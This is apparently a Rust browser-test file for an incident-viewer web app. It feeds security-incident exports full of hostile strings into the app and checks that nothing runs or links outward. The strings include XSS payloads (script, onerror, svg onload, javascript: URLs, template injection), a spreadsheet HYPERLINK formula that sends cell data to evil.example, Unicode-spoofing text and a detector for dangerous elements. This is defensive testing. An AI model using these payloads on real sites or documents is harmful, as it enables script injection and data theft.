//! Text from outside that means no good: imported, looked at on every view, taken away in a report. Nothing of it runs,
//! nothing of it becomes a link to anywhere, and the page goes on working.

use serde_json::{Value, json};

use crate::harness::find::Finds as _;
use crate::harness::page::Page;
use crate::harness::visit::{Place, Test, test};
use crate::steps::{import_text, small_export};

/// What attackers write into names, paths and subjects. Each calls `firsthourHit` if it is ever run.
const PAYLOADS: [&str; 14] = [
    "<script>window.firsthourHit = 1</script>",
    "<img src=x onerror='window.firsthourHit = 2'>",
    "<svg/onload=window.firsthourHit=3>",
    "\"><iframe srcdoc='<script>parent.firsthourHit=4</script>'></iframe>",
    "javascript:window.firsthourHit=5",
    "[press me](javascript:window.firsthourHit=6)",
    "![x](x\" onerror=\"window.firsthourHit=7)",
    "<details open ontoggle=window.firsthourHit=8>",
    "{{constructor.constructor('window.firsthourHit=9')()}}",
    "</textarea></title></style></script><script>window.firsthourHit=10</script>",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"press\")",
    "data:text/html,<script>window.firsthourHit=11</script>",
    "\u{202e}gpj.exe \u{0}\u{1b}[31m \u{feff}\u{200b} \u{1F600}",
    "https://evil.example/<b onmouseover=window.firsthourHit=12>x</b>",
];

/// Where an incident's views are, by the last part of their address.
pub const VIEWS: [&str; 7] = ["", "/alerts", "/entities", "/evidence", "/notes", "/activity", "/report"];

pub fn tests() -> Vec<Test> {
    vec![
        test("hostile::nothing_in_a_file_runs", nothing_runs),
        test("hostile::nothing_in_a_file_runs_from_disk", nothing_runs).at(Place::SingleFile),
        test("hostile::an_address_cannot_run_anything", address),
        test("hostile::ten_thousand_levels_are_refused", depth),
    ]
}

fn nothing_runs(page: &Page) {
    page.open("#/incidents");
    import_text(page, "<img src=x onerror=window.firsthourHit=20>.json", &export());
    // One of them is looked at closely, whichever comes first; they all stand in the list.
    page.open("#/incidents");
    is_harmless(page, "the list");
    for number in [0, 4, 9] {
        page.open("#/incidents");
        let incident = open_number(page, number);
        for view in VIEWS {
            page.open(&format!("{incident}{view}"));
            is_harmless(page, &format!("{incident}{view}"));
        }
    }
    // The page is still one that can be worked with.
    import_text(page, "after.json", &small_export("After all that"));
    page.heading("After all that").wait();
}

/// The address of an incident, by its place among the links of the list.
fn open_number(page: &Page, number: usize) -> String {
    let links = "return [...document.querySelectorAll('main a[href^=\"#/incidents/\"]')].map(link => link.getAttribute('href'))";
    page.wait_until("the incidents are listed", |page| {
        page.evaluate(links).as_array().is_some_and(|links| links.len() > number)
    });
    page.evaluate(links)[number].as_str().unwrap_or_default().to_owned()
}

/// Nothing has run, nothing has been added that could, and no link leads to where an attacker says.
#[track_caller]
fn is_harmless(page: &Page, place: &str) {
    const LOOK: &str = "const found = [];
        if ('firsthourHit' in window) found.push('number ' + window.firsthourHit + ' has run');
        for (const element of document.querySelectorAll('main *, dialog *, header *, footer *')) {
            if (/^(script|iframe|object|embed|base|meta|link|style|foreignObject)$/i.test(element.localName))
                found.push(element.outerHTML.slice(0, 120));
            for (const { name, value } of element.attributes) {
                if (/^on|^srcdoc$/i.test(name)) found.push(`${element.localName} has ${name}=${value.slice(0, 80)}`);
                if (/^(href|src|action|formaction|xlink:href)$/i.test(name) && !/^(#|blob:)/.test(value))
                    found.push(`${element.localName} leads to ${value.slice(0, 80)}`);
            }
        }
        return found;";
    let found = page.evaluate(LOOK);
    assert_eq!(found, json!([]), "{place}");
}

fn address(page: &Page) {
    for payload in [
        "#/incidents?q=<img src=x onerror=window.firsthourHit=30>",
        "#/<script>window.firsthourHit=31</script>",
        "#javascript:window.firsthourHit=32",
    ] {
        page.open(payload);
        is_harmless(page, payload);
    }
}

fn depth(page: &Page) {
    page.open("#/incidents");
    let deep = format!("{{\"value\":{}{}}}", "[".repeat(10_000), "]".repeat(10_000));
    page.drop_bytes("deep.json", deep.as_bytes());
    page.dialog(crate::steps::en().import.refused_title).wait();
    page.press(&["Escape"]);
    import_text(page, "flat.json", &small_export("Flat"));
    page.heading("Flat").wait();
}

/// An export with a payload in every text field.
fn export() -> String {
    let incidents: Vec<Value> =
        PAYLOADS.iter().enumerate().map(|(number, payload)| incident(number, payload)).collect();
    json!({ "value": incidents }).to_string()
}

fn incident(number: usize, payload: &str) -> Value {
    let at = format!("2026-03-01T08:{number:02}:00Z");
    let comments = json!([{ "comment": payload, "createdByDisplayName": payload, "createdDateTime": at }]);
    let alert = json!({
        "id": format!("a{number}{payload}"), "title": payload, "description": payload,
        "recommendedActions": payload, "category": payload, "severity": payload, "status": payload,
        "serviceSource": payload, "detectionSource": payload, "productName": payload,
        "mitreTechniques": [payload], "threatDisplayName": payload, "actorDisplayName": payload,
        "alertWebUrl": payload, "createdDateTime": at, "assignedTo": payload, "comments": comments,
        "evidence": evidence(number, payload),
    });
    json!({
        "@odata.type": "#microsoft.graph.security.incident",
        "id": format!("{number}{payload}"), "displayName": payload, "description": payload,
        "summary": payload, "severity": payload, "status": payload, "classification": payload,
        "determination": payload, "assignedTo": payload, "customTags": [payload], "systemTags": [payload],
        "resolvingComment": payload, "incidentWebUrl": payload, "createdDateTime": at,
        "lastUpdateDateTime": at, payload: payload, "comments": comments, "alerts": [alert],
    })
}

/// One of each kind of evidence that has fields of its own, and one of a kind nobody knows.
fn evidence(number: usize, payload: &str) -> Vec<Value> {
    let user = json!({ "accountName": payload, "domainName": payload, "displayName": payload, "userPrincipalName": payload });
    let kinds = [
        (
            "deviceEvidence",
            json!({ "deviceDnsName": payload, "mdeDeviceId": payload, "osPlatform": payload }),
        ),
        ("userEvidence", json!({ "userAccount": user })),
        (
            "fileEvidence",
            json!({ "fileDetails": { "fileName": payload, "filePath": payload, "sha256": payload } }),
        ),
        (
            "processEvidence",
            json!({ "processCommandLine": payload, "processId": number, "imageFile": { "fileName": payload } }),
        ),
        ("urlEvidence", json!({ "url": payload })),
        ("ipEvidence", json!({ "ipAddress": payload })),
        ("mailboxEvidence", json!({ "primaryAddress": payload, "displayName": payload })),
        (
            "analyzedMessageEvidence",
            json!({ "subject": payload, "networkMessageId": payload, "recipientEmailAddress": payload }),
        ),
        ("registryKeyEvidence", json!({ "registryKey": payload, "registryHive": payload })),
        (
            "oauthApplicationEvidence",
            json!({ "displayName": payload, "appId": payload, "publisher": payload }),
        ),
        ("inventedEvidence", json!({ "anything": payload, payload: [payload] })),
    ];
    let common = |(kind, mut fields): (&str, Value)| {
        fields["@odata.type"] = format!("#microsoft.graph.security.{kind}").into();
        fields["createdDateTime"] = "2026-03-01T08:00:00Z".into();
        fields["verdict"] = "suspicious".into();
        fields["remediationStatusDetails"] = payload.into();
        fields["tags"] = json!([payload]);
        fields["roles"] = json!([payload]);
        fields
    };
    kinds.into_iter().map(common).collect()
}
